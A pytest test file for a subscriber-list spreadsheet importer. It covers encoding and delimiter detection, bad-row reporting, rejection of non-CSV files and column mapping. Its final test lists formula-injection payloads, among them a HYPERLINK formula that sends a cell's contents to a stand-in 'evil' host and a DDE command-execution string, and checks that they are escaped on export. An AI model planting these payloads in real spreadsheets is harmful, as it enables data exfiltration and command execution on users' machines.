"""A spreadsheet is read whatever wrote it, and what cannot be read is named by its line."""

import io

import pytest

from subscribers.sheets import Column, Row, SheetError, plain_cell, rows, safe_cell, sniff


def read(octets: bytes) -> list[Row]:
    shape = sniff(octets[:65_536])
    return list(rows(io.TextIOWrapper(io.BytesIO(octets), shape.encoding, "replace", newline=""), shape))


def addresses(octets: bytes) -> list[str]:
    return [row.cells.get(Column.ADDRESS, row.problem) for row in read(octets)]


TWO = ["ada@example.org", "zoë@example.org"]
PLAIN = "email,name\nada@example.org,Ada\nzoë@example.org,Zoë\n"


@pytest.mark.parametrize(
    "octets",
    [
        PLAIN.encode(),
        PLAIN.encode("utf-8-sig"),
        PLAIN.encode("utf-16"),
        PLAIN.encode("utf-16-le"),
        PLAIN.encode("utf-16-be"),
        PLAIN.encode("cp1252"),
        PLAIN.replace("\n", "\r\n").encode(),
        PLAIN.replace("\n", "\r").encode(),
        PLAIN.replace("\n", "\r\n", 1).encode(),
        PLAIN.replace(",", ";").encode(),
        PLAIN.replace(",", "\t").encode(),
        PLAIN.replace(",", "|").encode(),
        b"sep=;\n" + PLAIN.replace(",", ";").encode(),
        PLAIN.rstrip("\n").encode() + b"\n\n\n",
        PLAIN.replace("email", "E-Mail").encode(),
        PLAIN.replace("Ada", '"A, ""d""\na"').encode(),
    ],
    ids=[
        *("utf-8", "with a BOM", "utf-16", "utf-16-le", "utf-16-be", "windows-1252", "CR LF", "CR", "mixed ends"),
        *("semicolons", "tabs", "bars", "sep=", "blank lines", "other heading", "quoted"),
    ],
)
def test_the_same_people_come_out_however_the_file_is_written(octets: bytes) -> None:
    assert addresses(octets) == TWO


def test_a_line_is_known_by_its_number_also_below_cells_with_line_ends() -> None:
    found = read(b'email,name\nada@example.org,"A\nB\nC"\nbea@example.org,B\n')

    assert [(row.line, row.cells[Column.NAME]) for row in found] == [(2, "A\nB\nC"), (5, "B")]
    assert [row.line for row in read(b"sep=,\nemail\na@x.org\n")] == [3]


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        (b"a@x.org", "it has 1 cells, the header has 2"),
        (b"a@x.org,b,c", "it has 3 cells, the header has 2"),
        (b'"a@x.org"x,b', "its quotes do not match"),
        (b"a@x.org\0,b", "it holds control characters"),
        (b"a@x.org," + b"x" * 20_001, "a cell is too long"),
    ],
)
def test_a_bad_row_is_named_and_its_neighbours_are_read(line: bytes, problem: str) -> None:
    found = read(b"email,name\nada@example.org,A\n" + line + b"\nbea@example.org,B\n")

    assert [(r.line, r.problem) for r in found] == [(2, ""), (3, problem), (4, "")]


@pytest.mark.parametrize("size", [10, 200_000])
def test_a_quote_that_is_never_closed_ends_the_reading_with_its_line(size: int) -> None:
    octets = b'email,name\nada@example.org,A\nbea@example.org,"B\n' + b"x@example.org,X\n" * size

    with pytest.raises(SheetError, match="line 3: a quote opens here and is never closed"):
        read(octets)


@pytest.mark.parametrize(
    ("octets", "why"),
    [
        (b"", "nothing to import"),
        (b"\n\n", "nothing to import"),
        (b"PK\x03\x04...", "a ZIP file"),
        (b"%PDF-1.7", "a PDF file"),
        (b"\x89PNG\r\n", "a picture"),
        (b"\xd0\xcf\x11\xe0", "an old Excel"),
        (b"SQLite format 3\0", "a database"),
        (b"a,b\n1,2\n", "no column holds addresses"),
        (b"ada@example.org,Ada\n", "no column holds addresses"),
        (b"email,mail\n", "both hold the address"),
        (b"email" + b",x" * 500, "501 columns"),
    ],
)
def test_what_is_no_list_of_people_is_refused_with_what_it_is(octets: bytes, why: str) -> None:
    with pytest.raises(SheetError, match=why):
        sniff(octets)


def test_a_header_alone_holds_nobody() -> None:
    assert read(b"email,name\n") == []


def test_a_column_is_named_where_its_heading_is_not_known_and_the_others_are_shown() -> None:
    shape = sniff(b"Kontakt,Kundennummer,Name\n", {"address": "kontakt"})

    assert (shape.columns, shape.unused) == ({Column.ADDRESS: 0, Column.NAME: 2}, ("Kundennummer",))
    with pytest.raises(SheetError, match="no column 'Nowhere'"):
        sniff(b"email\n", {"address": "Nowhere"})


FORMULAS = ["=1+1", '=HYPERLINK("http://evil/"&A1,"x")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", [*FORMULAS, "Ada", "", "'tis", "'", "a=b"])
def test_a_formula_is_harmless_in_an_export_and_itself_again_in_an_import(text: str) -> None:
    assert not safe_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain_cell(safe_cell(text)) == text
